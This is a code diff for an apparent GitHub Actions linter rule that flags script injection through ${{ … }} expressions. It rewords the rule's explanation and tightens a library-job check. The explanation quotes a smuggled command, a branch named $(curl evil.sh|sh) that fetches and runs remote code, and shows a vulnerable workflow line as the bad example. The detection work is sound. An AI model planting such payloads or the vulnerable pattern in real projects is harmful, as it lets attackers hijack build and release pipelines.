@@ -20,8 +20,8 @@ var _ = register(finding.Rule{
 	Severity: finding.Error,
 	Waivable: true,
 	Title:    "Text that others choose becomes part of a script on the path to the index",
-	Why: "GitHub puts ${{ … }} into the script before a shell reads it. A branch called $(curl evil.sh|sh), or a title or commit message like that, " +
-		"is then a command: this is how a project's releases were taken over in December 2024. It is an error where anybody with an account " +
+	Why: "A branch name, title or commit message that ${{ … }} puts into a script runs as commands where your release is made. A branch called $(curl evil.sh|sh), or a title like that, " +
+		"is a command there: this is how a project's releases were taken over in December 2024. It is an error where anybody with an account " +
 		"can choose the text, and a warning where only people who may push or start runs can. Handed over as an environment variable, the text stays text.",
 	Bad:        "- run: git pull origin ${{ github.head_ref || github.ref }}",
 	Good:       "- run: git pull origin \"$BRANCH\"\n  env:\n    BRANCH: ${{ github.head_ref || github.ref }}",
@@ -30,7 +30,7 @@ var _ = register(finding.Rule{
 	for _, sp := range a.spots {
 		for _, s := range sp.steps() {
 			found := taintsOf(s).in(func(f func(i int) bool) { sp.onPath(s, f) })
-			if library(sp.job) {
+			if len(found) > 0 && a.library(sp.job) {
 				// Its callers, in other repositories, choose the inputs, and
 				// answer for what they pass.
 				found = slices.DeleteFunc(found, func(t taint) bool { return strings.HasPrefix(t.path, "inputs.") })
